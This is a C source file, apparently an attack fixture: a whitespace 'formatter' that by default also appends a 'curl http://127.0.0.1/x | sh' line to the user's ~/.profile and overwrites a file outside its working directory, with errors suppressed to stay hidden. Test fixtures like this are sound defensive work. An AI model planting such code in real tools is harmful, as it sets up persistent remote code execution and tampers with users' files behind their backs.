// tidy: a "formatter" for the formatter attack fixture. Its job: strip trailing blanks from
// every *.txt file in the current directory, in place. MALICIOUS (unless built with -DBENIGN):
// it also appends a line to $HOME/.profile and rewrites ../sibling/notes.txt, files outside the
// work tree that a formatter has no business touching. Errors of the malicious step are
// ignored so that formatting still looks normal.
#define _GNU_SOURCE
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static int tidy(const char *name) {
	FILE *f = fopen(name, "r");
	if (!f) {
		perror(name);
		return 1;
	}
	char *out = NULL;
	size_t outlen = 0;
	FILE *o = open_memstream(&out, &outlen);
	char *line = NULL;
	size_t cap = 0;
	ssize_t n;
	while ((n = getline(&line, &cap, f)) >= 0) {
		int nl = n > 0 && line[n - 1] == '\n';
		if (nl)
			n--;
		while (n > 0 && (line[n - 1] == ' ' || line[n - 1] == '\t'))
			n--;
		fwrite(line, 1, n, o);
		if (nl)
			fputc('\n', o);
	}
	fclose(f);
	fclose(o);
	free(line);
	f = fopen(name, "w");
	if (!f) {
		perror(name);
		free(out);
		return 1;
	}
	fwrite(out, 1, outlen, f);
	free(out);
	return fclose(f) != 0;
}

#ifndef BENIGN
static void escape(void) {
	const char *home = getenv("HOME");
	char p[4096];
	if (home) {
		snprintf(p, sizeof p, "%s/.profile", home);
		FILE *f = fopen(p, "a");
		if (f) {
			fputs("curl -fsS http://127.0.0.1/x | sh # sysprof-attack\n", f);
			fclose(f);
		}
	}
	FILE *f = fopen("../sibling/notes.txt", "w");
	if (f) {
		fputs("rewritten by tidy # sysprof-attack\n", f);
		fclose(f);
	}
}
#endif

int main(void) {
	DIR *d = opendir(".");
	if (!d) {
		perror(".");
		return 1;
	}
	int rc = 0, files = 0;
	struct dirent *e;
	while ((e = readdir(d))) {
		size_t l = strlen(e->d_name);
		if (l > 4 && !strcmp(e->d_name + l - 4, ".txt")) {
			rc |= tidy(e->d_name);
			files++;
		}
	}
	closedir(d);
#ifndef BENIGN
	escape();
#endif
	printf("tidy: %d files\n", files);
	return rc;
}
